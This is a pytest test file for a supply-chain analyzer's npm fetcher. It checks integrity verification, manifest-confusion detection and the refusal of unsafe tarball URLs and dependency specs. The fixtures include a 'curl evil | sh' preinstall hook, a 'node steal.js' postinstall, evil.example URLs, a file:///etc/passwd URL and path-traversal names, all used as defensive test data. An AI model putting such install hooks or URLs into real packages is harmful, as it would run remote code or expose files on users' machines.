"""npm fetching against the fake registry: packuments, integrity, and an offline-ready cache."""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from analyzer.errors import FetchError, RegistryError
from analyzer.fetch.interface import Target
from analyzer.fetch.npm import NpmFetcher
from analyzer.fetch.npm_cache import NPM_CACHE_DIRNAME, prepare_npm_dependencies, spec_refusal
from analyzer.httpclient import RetryPolicy
from analyzer.models import Ecosystem, FetchedPackage

from .conftest import Builder, FakeRegistry

FAST = RetryPolicy(timeout_s=5, attempts=3, backoff_s=0)
needs_npm = pytest.mark.skipif(shutil.which("npm") is None, reason="needs npm on the host")


def fetch(registry: FakeRegistry, workdir: Path, name: str,
          version: str | None = None) -> FetchedPackage:
    return NpmFetcher(registry.urls, FAST).fetch(Target(Ecosystem.NPM, name, version), workdir)


def test_latest_pinned_and_tagged_versions(registry: FakeRegistry, make_npm_tgz: Builder,
                                           tmp_path: Path) -> None:
    registry.add_npm("demo", "1.0.0", make_npm_tgz("demo", "1.0.0"))
    registry.add_npm("demo", "2.0.0", make_npm_tgz("demo", "2.0.0", scripts={
        "postinstall": "node steal.js"}))
    registry.npm["demo"]["dist-tags"]["next"] = "3.0.0-beta.1"
    registry.add_npm("demo", "3.0.0-beta.1", make_npm_tgz("demo", "3.0.0-beta.1"), latest=False)

    latest = fetch(registry, tmp_path / "a", "demo")
    assert (latest.ref.version, latest.ref.filename) == ("2.0.0", "demo-2.0.0.tgz")
    assert latest.ref.sha256 == hashlib.sha256(latest.artifact.read_bytes()).hexdigest()
    assert latest.artifact == tmp_path / "a" / "artifact" / "demo-2.0.0.tgz"
    assert latest.metadata["install_scripts"] == "postinstall"
    assert latest.metadata["upload_time"] == "2024-01-02T03:04:05.000Z"
    assert latest.dependencies == ()
    assert fetch(registry, tmp_path / "b", "demo", "1.0.0").ref.version == "1.0.0"
    assert fetch(registry, tmp_path / "c", "demo", "next").ref.version == "3.0.0-beta.1"


def test_packument_and_tarball_disagreeing_is_noted(
        registry: FakeRegistry, make_npm_tgz: Builder, tmp_path: Path) -> None:
    # "Manifest confusion": the registry shows a clean manifest, the tarball runs a script.
    tgz = make_npm_tgz("demo", "1.0.0", scripts={"preinstall": "curl evil | sh"})
    registry.add_npm("demo", "1.0.0", tgz, manifest={"name": "demo", "version": "1.0.0"})
    fetched = fetch(registry, tmp_path, "demo")
    assert fetched.metadata["install_scripts"] == "preinstall"  # what npm will really run
    assert fetched.metadata["manifest_mismatch"] == "scripts"


def test_unknown_package_or_version(registry: FakeRegistry, make_npm_tgz: Builder,
                                    tmp_path: Path) -> None:
    with pytest.raises(FetchError, match="no such package on npm: nope"):
        fetch(registry, tmp_path, "nope")
    registry.add_npm("demo", "1.0.0", make_npm_tgz("demo", "1.0.0"))
    with pytest.raises(FetchError, match="no such version on npm: demo@9.9.9"):
        fetch(registry, tmp_path, "demo", "9.9.9")


def test_server_errors_are_retried_then_reported(registry: FakeRegistry, tmp_path: Path) -> None:
    registry.status["/npm/demo"] = 503
    with pytest.raises(RegistryError, match="HTTP 503"):
        fetch(registry, tmp_path, "demo")
    assert registry.hits.count("/npm/demo") == 3


def test_scoped_names_are_url_encoded(registry: FakeRegistry, make_npm_tgz: Builder,
                                      tmp_path: Path) -> None:
    registry.add_npm("@acme/thing", "1.2.3", make_npm_tgz("@acme/thing", "1.2.3"))
    fetched = fetch(registry, tmp_path, "@acme/thing", "1.2.3")
    assert "/npm/@acme%2fthing" in registry.hits
    assert (fetched.ref.name, fetched.ref.filename) == ("@acme/thing", "thing-1.2.3.tgz")


@pytest.mark.parametrize(("integrity", "shasum", "message"), [
    ("sha512-" + base64.b64encode(bytes(64)).decode(), None, "integrity mismatch"),
    ("", "0" * 40, "integrity mismatch"),
    ("", "", "no sha512 integrity or shasum"),
])
def test_integrity_is_checked(registry: FakeRegistry, make_npm_tgz: Builder, tmp_path: Path,
                              integrity: str, shasum: str | None, message: str) -> None:
    registry.add_npm("demo", "1.0.0", make_npm_tgz("demo", "1.0.0"), integrity=integrity,
                     shasum=shasum)
    with pytest.raises(FetchError, match=message):
        fetch(registry, tmp_path, "demo")
    assert not (tmp_path / "artifact" / "demo-1.0.0.tgz").exists()


def test_shasum_alone_is_accepted(registry: FakeRegistry, make_npm_tgz: Builder,
                                  tmp_path: Path) -> None:
    registry.add_npm("demo", "1.0.0", make_npm_tgz("demo", "1.0.0"), integrity="")
    assert fetch(registry, tmp_path, "demo").ref.version == "1.0.0"


@pytest.mark.parametrize(("tarball", "message"), [
    ("http://evil.example/demo-1.0.0.tgz", "not an allowed registry host"),
    ("file:///etc/passwd.tgz", r"not an http\(s\) URL"),
    ("{base}/npm/demo/-/demo%2f..%2f..%2fx.tgz", "unsafe artifact file name"),
    ("{base}/npm/demo/-/demo-1.0.0.exe", "unsafe artifact file name"),
])
def test_hostile_tarball_urls_are_refused(registry: FakeRegistry, make_npm_tgz: Builder,
                                          tmp_path: Path, tarball: str, message: str) -> None:
    registry.add_npm("demo", "1.0.0", make_npm_tgz("demo", "1.0.0"),
                     tarball=tarball.format(base=registry.base))
    with pytest.raises((FetchError, RegistryError), match=message):
        fetch(registry, tmp_path, "demo")


@pytest.mark.parametrize(("spec", "refused"), [
    ("^1.2.0", False), ("1.x || >=2.5.0 <3", False), ("latest", False), ("*", False),
    ("npm:@acme/real@^1.0.0", False), ("github:user/repo", True),
    ("git+ssh://git@github.com/u/r.git", True), ("https://evil.example/x.tgz", True),
    ("file:../../etc", True), ("user/repo", True), ("link:../x", True),
])
def test_only_registry_specs_are_fetched(spec: str, refused: bool) -> None:
    assert (spec_refusal("dep", spec) is not None) is refused


def test_dependencies_missing_without_npm(registry: FakeRegistry, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    deps = prepare_npm_dependencies({"dep-a": "^1.0.0"}, tmp_path, registry.urls.npm)
    assert [(d.name, d.missing_reason) for d in deps] == [("dep-a", "npm not found on the host")]


@needs_npm
def test_npm_cache_holds_every_transitive_dependency(
        registry: FakeRegistry, make_npm_tgz: Builder, tmp_path: Path) -> None:
    registry.add_npm("dep-b", "2.1.0", make_npm_tgz("dep-b", "2.1.0"))
    registry.add_npm("dep-a", "1.4.0", make_npm_tgz("dep-a", "1.4.0", deps={"dep-b": "^2.0.0"}))
    registry.add_npm("@acme/util", "0.3.0", make_npm_tgz("@acme/util", "0.3.0"))
    deps = {"dep-a": "^1.0.0", "@acme/util": "~0.3.0", "ghost": "^1.0.0",
            "gitdep": "github:evil/repo"}
    registry.add_npm("@acme/app", "1.0.0", make_npm_tgz("@acme/app", "1.0.0", deps=deps))

    fetched = fetch(registry, tmp_path / "w", "@acme/app")
    found = {d.name: d for d in fetched.dependencies}
    assert {n: d.version for n, d in found.items()} == {
        "dep-a": "1.4.0", "dep-b": "2.1.0", "@acme/util": "0.3.0", "ghost": None, "gitdep": None}
    assert found["dep-a"].filename == "dep-a-1.4.0.tgz"
    assert "404" in (found["ghost"].missing_reason or "")
    assert "non-registry" in (found["gitdep"].missing_reason or "")
    assert fetched.metadata["npm_registry"] == registry.urls.npm

    # What the sandbox does: install the artifact offline from a copy of the cache.
    cache = tmp_path / "sandbox-cache"
    shutil.copytree(fetched.dependency_dir / NPM_CACHE_DIRNAME, cache)
    project = tmp_path / "project"
    project.mkdir()
    (project / "package.json").write_text('{"name": "webapp", "version": "1.0.0"}')
    hits_before = len(registry.hits)
    installable = make_npm_tgz("@acme/app", "1.0.0", deps={"dep-a": "^1.0.0",
                                                           "@acme/util": "~0.3.0"})
    proc = subprocess.run(
        ["npm", "install", "--offline", "--ignore-scripts", "--no-audit", "--no-fund",
         "--cache", str(cache), "--registry", registry.urls.npm + "/", str(installable)],
        cwd=project, capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode == 0, proc.stderr
    for name in ("dep-a", "dep-b", "@acme/util", "@acme/app"):
        manifest = json.loads((project / "node_modules" / name / "package.json").read_text())
        assert manifest["name"] == name
    assert len(registry.hits) == hits_before  # offline really was offline


@needs_npm
def test_dependencies_past_the_budget_are_named(registry: FakeRegistry, make_npm_tgz: Builder,
                                                tmp_path: Path) -> None:
    registry.add_npm("slow-dep", "1.0.0", make_npm_tgz("slow-dep", "1.0.0"))
    registry.add_npm("dep-b", "2.1.0", make_npm_tgz("dep-b", "2.1.0"))
    registry.delay_s["/npm/slow-dep"] = 30.0  # longer than the budget: npm is cut off
    deps = prepare_npm_dependencies({"slow-dep": "^1.0.0", "dep-b": "^2.0.0"}, tmp_path,
                                    registry.urls.npm, budget_s=3.0)
    assert {d.name: d.missing_reason for d in deps} == {
        "slow-dep": "not downloaded: the 3s budget for dependency downloads ran out",
        "dep-b": "not downloaded: the 3s budget for dependency downloads ran out"}
